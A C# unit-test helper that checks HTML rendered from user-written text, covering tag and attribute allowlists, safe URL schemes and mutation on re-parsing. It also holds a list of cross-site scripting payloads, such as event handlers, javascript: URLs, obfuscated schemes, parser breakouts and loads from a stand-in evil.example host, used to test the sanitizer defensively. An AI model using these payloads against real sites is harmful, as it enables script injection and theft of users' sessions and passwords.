using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Shouldly;

namespace Interlink.Tests.Unit;

/// <summary>What HTML made of other people's words may hold, read as a browser reads it. Written apart from the lists of the product, on purpose.</summary>
internal static partial class SafeHtml
{
    private static readonly HashSet<string> tags =
        [.. "p br strong em del s b i ul ol li h2 h3 h4 h5 h6 a code pre blockquote hr table thead tbody tr th td div span img colgroup col".Split(' ')];

    private static readonly HashSet<string> attributes =
        [.. "href rel start class id role tabindex aria-label aria-hidden data-line src alt loading scope colspan rowspan".Split(' ')];

    /// <summary>Nothing in it acts, loads from elsewhere or looks like another part of the page, also after a browser wrote it and read it again.</summary>
    public static void ShouldBeSafe(string html, string because)
    {
        var parser = new HtmlParser();
        var document = parser.ParseDocument("<!DOCTYPE html><html><body><main>" + html + "</main></body></html>");
        var main = document.QuerySelector("main").ShouldNotBeNull(because);
        // Nothing got out of its place.
        document.Body!.Children.Length.ShouldBe(1, because);
        document.Head!.Children.Length.ShouldBe(0, because);
        Check(main, because);
        // What was text stays text when the page is written out and read again, as scripts that morph pages do.
        var again = parser.ParseDocument("<!DOCTYPE html><html><body><main>" + main.InnerHtml + "</main></body></html>");
        Check(again.QuerySelector("main")!, because + " (read again)");
    }

    private static void Check(IElement main, string because)
    {
        foreach (var element in main.QuerySelectorAll("*"))
        {
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", because);
            tags.ShouldContain(element.LocalName, because);
            foreach (var attribute in element.Attributes)
            {
                attributes.ShouldContain(attribute.Name, $"{because}: {element.LocalName} {attribute.Name}={attribute.Value}");
                if (attribute.Name is "href" or "src") IsSafe(attribute.Value).ShouldBeTrue($"{because}: {attribute.Value}");
                // Pictures of the guide and of resources; an empty address loads nothing.
                if (attribute is { Name: "src", Value.Length: > 0 }) attribute.Value.ShouldMatch("^/(help|resources)/", because);
                if (attribute.Name == "class") attribute.Value.Split(' ', StringSplitOptions.RemoveEmptyEntries).ShouldAllBe(c => c.StartsWith("il-", StringComparison.Ordinal) || c == "is-done" || c == "visually-hidden", because);
                if (attribute.Name == "id") attribute.Value.ShouldMatch("^s[0-9]+$", because);
            }
        }
        main.Descendants<IComment>().ShouldBeEmpty(because);
    }

    private static bool IsSafe(string address)
    {
        // As a browser reads it: tabs, line ends and leading blanks are dropped before the scheme.
        var plain = new string([.. address.Where(c => c > ' ' && !char.IsControl(c))]).ToLowerInvariant();
        var scheme = Scheme().Match(plain);
        return !scheme.Success || scheme.Groups[1].Value is "http" or "https" or "mailto";
    }

    [GeneratedRegex("^([a-z][a-z0-9+.-]*):")]
    private static partial Regex Scheme();

    /// <summary>Pieces of attacks, and of ordinary writing to hide them in.</summary>
    public static readonly string[] Pieces =
    [
        "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<math><mi//xlink:href=\"javascript:alert(1)\">", "<iframe src=javascript:alert(1)>", "<object data=data:text/html,x>", "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<style><img src=x onerror=alert(1)></style>", "<form action=//evil.example><input name=password><button>", "</form>", "<textarea>", "</textarea>", "<title>", "</title><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xmp>", "</xmp>", "<plaintext>", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version=1?>", "<a href=javascript:alert(1)>", "</a>",
        "<a href=\"jav\tascript:alert(1)\">", "<a href=&#106;avascript&colon;alert(1)>", "<p style=\"background:url(javascript:alert(1))\">", "<div onclick=alert(1)>", "</div>", "</main>", "</body></html>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<table><caption>", "<select><option>", "<button formaction=javascript:alert(1)>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)", "[x](/\\evil.example)", "[x](<javascript:alert(1)>)", "[x](https://e.example \"a\\\" onclick=\\\"alert(1)\")",
        "![x](https://evil.example/p.png)", "![x](javascript:alert(1))", "![x\" onerror=\"alert(1)](pictures/a.png)", "![a](pictures/tree.png)", "<javascript:alert(1)>", "<https://e.example/\"onmouseover=\"alert(1)>", "[x]: javascript:alert(1)", "[x]", "[x][x]", "<http://e.example>", "https://e.example/\"onclick=alert(1)",
        "{onclick=alert(1)}", "{#id .class style=color:red}", "$x$", ":::script", "<x-widget onconnected=alert(1)>", "\u0000", "\u0001", "\ufeff", "\u2028", "\ud800", "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#x3C;script&#x3E;", "\"", "'", "`", "``", "```\n", "~~~\n", "\\", "\\<",
        "\n", "\n\n", "    ", "\t", "# ", "## ", "- ", "1. ", "99999999999. ", "> ", "- [ ] ", "- [x] ", "* ", "**", "_", "~~", "| a | b |\n|---|---|\n", "| c | d |\n", "|", "---\n", "***\n", "===\n", "word ", "ģimene ", "IL-002 ", "(", ")", "[", "]", "<", ">", "&", ";", "!", ":", "=", "/",
    ];
}
